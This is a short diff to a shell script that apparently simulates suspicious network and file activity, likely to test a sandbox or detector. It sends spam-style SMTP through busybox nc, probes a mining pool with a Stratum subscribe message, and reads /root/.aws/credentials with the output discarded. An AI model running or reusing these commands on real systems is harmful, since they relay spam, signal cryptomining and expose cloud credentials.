@@ -19,8 +19,10 @@ probe tcp 203.0.113.5 4444 hello-there
 probe udp 203.0.113.6 5555 datagram
 probe tcp 203.0.113.7 3333 '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}
 '
-printf 'EHLO me\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<victim@c.example>\\r\\nDATA\\r\\nbuy this\\r\\n.\\r\\nQUIT\\r\\n' |
-  busybox nc 203.0.113.8 25
+{
+  printf 'EHLO me\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<victim@c.example>\\r\\n'
+  printf 'DATA\\r\\nbuy this\\r\\n.\\r\\nQUIT\\r\\n'
+} | busybox nc 203.0.113.8 25
 busybox nc -w 3 203.0.113.9 22 </dev/null | busybox head -c 7
 ls -laR / >/dev/null 2>&1
 cat /root/.aws/credentials >/dev/null
